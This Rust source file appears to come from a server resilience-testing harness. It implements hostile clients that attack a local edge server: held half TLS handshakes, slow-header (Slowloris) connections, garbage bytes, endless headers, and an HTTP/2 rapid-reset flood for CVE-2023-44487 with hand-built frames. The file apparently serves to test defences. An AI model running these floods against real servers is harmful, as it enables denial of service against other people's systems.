//! The hostile clients, a process of its own at the lowest priority, so that what they cost their own core is not
//! taken from the client that is measured. They have valid papers: none is turned away at the door.

use std::cell::Cell;
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use rustls::{ClientConfig, ClientConnection};
use rustls_pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt, split};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::{LocalSet, spawn_local};
use tokio::time::{interval, sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::argument::{Attack, AttackName, Setting};
use crate::client::{CLIENT, SMALL};
use crate::site::HTTPS_NAME;
use crate::tls;
use crate::upstream::when_input_ends;

/// Connections of each kind that is held.
const HELD: u64 = 200;

/// From one byte of a header to the next.
const SLOW: Duration = Duration::from_secs(10);

/// From one connection with garbage to the next: 200 a second.
const GARBAGE: Duration = Duration::from_millis(5);

/// From one connection without an end to its header to the next: 50 a second.
const ENDLESS: Duration = Duration::from_millis(20);

/// How long a short attack waits for the edge to close.
const PATIENCE: Duration = Duration::from_secs(2);

/// From a closed connection to the next attempt.
const PAUSE: Duration = Duration::from_millis(100);

/// How long the held connections may take to be there.
const RAMP: Duration = Duration::from_secs(5);

/// Streams that are opened and reset in one write.
const BATCH: u32 = 50;

/// One kind of attack with all that its connections share.
#[derive(Debug)]
struct Attacker {
    at: SocketAddr,
    config: Arc<ClientConfig>,
    name: ServerName<'static>,
    kind: AttackName,
    opened: Cell<u64>,
    closed: Cell<u64>,
    sent: Cell<u64>,
}

/// Attacks, says `ready` when the held connections are there, and what was done when its standard input ends.
///
/// # Errors
/// Where it cannot begin.
pub(crate) fn run(setting: &Setting, settings: &Attack) -> io::Result<()> {
    let ended = when_input_ends();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let local = LocalSet::new();
    runtime.block_on(local.run_until(async move {
        let make = |kind: &AttackName| Attacker::make(setting, settings, *kind).map(Rc::new);
        let attackers = settings.attacks.iter().map(make).collect::<io::Result<Vec<_>>>()?;
        for attacker in &attackers {
            attacker.begin();
        }
        let _as_many_as_came = timeout(RAMP, all_held(&attackers)).await;
        println!("ready");
        let _nobody_left = ended.await;
        for attacker in &attackers {
            println!("{}", attacker.account());
        }
        Ok(())
    }))
}

async fn all_held(attackers: &[Rc<Attacker>]) {
    let due =
        |attacker: &&Rc<Attacker>| matches!(attacker.kind, AttackName::Half | AttackName::Slow);
    for attacker in attackers.iter().filter(due) {
        while attacker.opened.get() < HELD {
            sleep(Duration::from_millis(10)).await;
        }
    }
}

impl Attacker {
    fn make(setting: &Setting, settings: &Attack, kind: AttackName) -> io::Result<Self> {
        let alpn = if kind == AttackName::Reset { tls::HTTP2 } else { tls::HTTP1 };
        Ok(Self {
            at: settings.at,
            config: tls::client(&settings.certificates, setting.exchange, &[alpn], Some(CLIENT))?,
            name: ServerName::try_from(HTTPS_NAME).map_err(io::Error::other)?,
            kind,
            opened: Cell::default(),
            closed: Cell::default(),
            sent: Cell::default(),
        })
    }

    fn begin(self: &Rc<Self>) {
        match self.kind {
            AttackName::Half | AttackName::Slow => {
                for number in 0..HELD {
                    drop(spawn_local(Rc::clone(self).hold(number)));
                }
            }
            AttackName::Garbage => drop(spawn_local(Rc::clone(self).every(GARBAGE))),
            AttackName::Endless => drop(spawn_local(Rc::clone(self).every(ENDLESS))),
            AttackName::Reset => drop(spawn_local(Rc::clone(self).hold(0))),
        }
    }

    /// Keeps one connection; when it is closed, another.
    async fn hold(self: Rc<Self>, number: u64) {
        loop {
            let _closed = match self.kind {
                AttackName::Half => self.half(number).await,
                AttackName::Slow => self.slow().await,
                AttackName::Reset => self.reset().await,
                AttackName::Garbage | AttackName::Endless => return,
            };
            self.closed.set(self.closed.get() + 1);
            sleep(PAUSE).await;
        }
    }

    /// A new connection at every tick, whatever became of the last.
    async fn every(self: Rc<Self>, period: Duration) {
        let mut tick = interval(period);
        loop {
            tick.tick().await;
            drop(spawn_local(Rc::clone(&self).short()));
        }
    }

    async fn short(self: Rc<Self>) {
        let attempt = async {
            if self.kind == AttackName::Garbage {
                self.garbage().await
            } else {
                self.endless().await
            }
        };
        if timeout(PATIENCE, attempt).await.is_ok() {
            self.closed.set(self.closed.get() + 1);
        }
    }

    /// Half of them stop within the `ClientHello`, the others after it, when the edge has done its part.
    async fn half(&self, number: u64) -> io::Result<()> {
        let mut hello = Vec::new();
        let mut tls = ClientConnection::new(Arc::clone(&self.config), self.name.clone())
            .map_err(io::Error::other)?;
        tls.write_tls(&mut hello)?;
        if number.is_multiple_of(2) {
            hello.truncate(hello.len() / 2);
        }
        let mut stream = self.connect().await?;
        stream.write_all(&hello).await?;
        self.count_opened();
        until_closed(&mut stream).await
    }

    async fn slow(&self) -> io::Result<()> {
        let stream = self.shake_hands().await?;
        self.count_opened();
        let (mut from, mut to) = split(stream);
        let bytes = async {
            for byte in format!("GET {SMALL} HTTP/1.1\r\nHost: {HTTPS_NAME}\r\nX-Slow: ").bytes() {
                to.write_all(&[byte]).await?;
                to.flush().await?;
                self.sent.set(self.sent.get() + 1);
                sleep(SLOW).await;
            }
            Ok(())
        };
        tokio::select! { closed = until_closed(&mut from) => closed, broken = bytes => broken }
    }

    async fn garbage(&self) -> io::Result<()> {
        let mut stream = self.connect().await?;
        self.count_opened();
        let seed = self.opened.get();
        let noise: Vec<u8> = (0..512_u64).map(|place| scattered(seed, place)).collect();
        stream.write_all(&noise).await?;
        until_closed(&mut stream).await
    }

    async fn endless(&self) -> io::Result<()> {
        let stream = self.shake_hands().await?;
        self.count_opened();
        let (mut from, mut to) = split(stream);
        let head = async {
            to.write_all(format!("GET {SMALL} HTTP/1.1\r\nHost: {HTTPS_NAME}\r\n").as_bytes())
                .await?;
            let line = format!("X-Endless: {}\r\n", "a".repeat(1011));
            loop {
                to.write_all(line.as_bytes()).await?;
                self.sent.set(self.sent.get() + 1);
            }
        };
        tokio::select! { closed = until_closed(&mut from) => closed, broken = head => broken }
    }

    /// CVE-2023-44487: as many streams as the connection takes, each reset at once.
    async fn reset(&self) -> io::Result<()> {
        let stream = self.shake_hands().await?;
        self.count_opened();
        let (mut from, mut to) = split(stream);
        let flood = async {
            to.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
            let mut stream_id = 1_u32;
            while stream_id < u32::MAX >> 2 {
                to.write_all(&resets(stream_id)).await?;
                to.flush().await?;
                self.sent.set(self.sent.get() + u64::from(BATCH));
                stream_id += 2 * BATCH;
            }
            Ok(())
        };
        tokio::select! { closed = until_closed(&mut from) => closed, broken = flood => broken }
    }

    async fn connect(&self) -> io::Result<TcpStream> {
        let last = 101 + self.kind as u8;
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(IpAddr::from(Ipv4Addr::new(127, 1, 0, last)), 0))?;
        let stream = socket.connect(self.at).await?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }

    async fn shake_hands(&self) -> io::Result<TlsStream<TcpStream>> {
        let stream = self.connect().await?;
        TlsConnector::from(Arc::clone(&self.config)).connect(self.name.clone(), stream).await
    }

    fn count_opened(&self) {
        self.opened.set(self.opened.get() + 1);
    }

    fn account(&self) -> String {
        let (opened, closed, sent) = (self.opened.get(), self.closed.get(), self.sent.get());
        match self.kind {
            AttackName::Half => {
                format!("half handshakes: {opened} opened, {closed} closed by the edge")
            }
            AttackName::Slow => {
                format!("slow headers: {opened} opened, {sent} bytes, {closed} closed by the edge")
            }
            AttackName::Garbage => format!("garbage: {opened} opened, {closed} closed by the edge"),
            AttackName::Endless => {
                format!(
                    "endless headers: {opened} opened, {sent} KiB written, {closed} ended by the edge within 2 s"
                )
            }
            AttackName::Reset => {
                format!(
                    "rapid resets: {sent} streams on {opened} connections, {closed} closed by the edge"
                )
            }
        }
    }
}

/// `BATCH` times HEADERS and `RST_STREAM` (RFC 9113 §6.2, §6.4), from stream `first` on.
fn resets(first: u32) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(0x01, HTTPS_NAME), (0x04, SMALL)] {
        block.extend([name, u8::try_from(value.len()).unwrap_or(0)]);
        block.extend(value.bytes());
    }
    let length = u8::try_from(block.len()).unwrap_or(0);
    let mut frames = Vec::new();
    for stream_id in (first..).step_by(2).take(usize::try_from(BATCH).unwrap_or(0)) {
        let stream_id = stream_id.to_be_bytes();
        frames.extend([0, 0, length, 0x01, 0x05]);
        frames.extend(stream_id);
        frames.extend(&block);
        frames.extend([0, 0, 4, 0x03, 0]);
        frames.extend(stream_id);
        frames.extend([0, 0, 0, 8]);
    }
    frames
}

/// Bytes without a pattern, the same in every run (splitmix64).
fn scattered(seed: u64, place: u64) -> u8 {
    let mut mixed = (seed << 16 | place).wrapping_mul(0x9E37_79B9_7F4A_7C15);
    mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    mixed.to_be_bytes()[0]
}

async fn until_closed(stream: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut scrap = [0; 4096];
    while stream.read(&mut scrap).await? > 0 {}
    Ok(())
}
